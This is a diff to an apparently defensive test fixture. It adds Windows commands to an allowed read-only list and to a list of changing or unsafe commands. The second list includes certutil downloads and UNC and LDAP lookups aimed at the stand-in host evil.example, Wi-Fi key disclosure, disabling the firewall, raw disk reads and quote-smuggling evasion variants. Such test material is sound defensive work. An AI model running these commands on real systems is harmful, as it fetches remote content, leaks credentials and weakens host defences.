@@ -91,6 +91,15 @@ type C:\Windows\Temp\ts.log
 echo %date%
 date /t
 auditpol /get /category:*
+netsh dhcp server scope 10.20.0.0 show optionvalue
+netsh interface portproxy show all
+netsh winhttp show proxy
+netstat -p tcp
+klist tgt -li 0x3e7
+certutil -dump C:\\ca\x.cer
+type C:\Windows\Temp\Ergebnis-Größe.log
+wevtutil qe C:\Logs\System.evtx /lf:true
+winrm enumerate http://schemas.microsoft.com/wbem/wsman/1/config/listener
 """.strip().splitlines()
 
 CHANGES = r"""
@@ -214,6 +223,52 @@ bcdedit /set testsigning on
 format c:
 date 01-01-2020 /t x
 hostname newname
+klist -li 0x3e7 purge
+klist tickets purge
+netsh wlan connect show
+netsh wlan disconnect show
+netsh trace start show
+netsh int ip del arpcache show
+netsh interface ipv4 se address show
+netsh advfirewall s a state off show
+netsh http flush logbuffer show
+netsh wlan show profile x key=clear
+netstat -an 1
+ping -n 9 -w 99999999 10.20.30.40
+certutil -dump "x\"" -urlcache http://evil.example/x "
+certutil -dump "x"" -urlcache "
+certutil -dump ＂a＂
+certutil –urlcache -dump x
+certutil -dump \\evil.example\x
+certutil -dump "\\evil.example\x"
+certutil -dump http://evil.example/x
+certutil -dump con
+certutil -store "ldap://evil.example/CN=x"
+certutil -store "ldap:////evil.example/CN=x"
+dir \\evil.example\x
+dir ,\\evil.example\x
+dir "\\evil.example\x"
+type \\evil.example\x
+type \/evil.example\x
+type \\.\PhysicalDrive0
+type CON
+type COM1
+type C:\x\con.txt
+icacls \\evil.example\x
+vol \\evil.example\x
+where \\evil.example\x:y
+net time \\evil.example
+reg query \\evil.example\HKLM
+wevtutil qe \\evil.example\x.evtx /lf:true
+quser /server:\\evil.example
+winrm id -r:http://evil.example -a:basic -un
+winrm get winrm/config -file:\\evil.example\x
+ipconfig.bat /all
+ipconfig.com /all
+hostname.cmd
+.\hostname
+C:\Windows\System32\hostname.exe
+hostname.
 """.strip().splitlines()
 
 
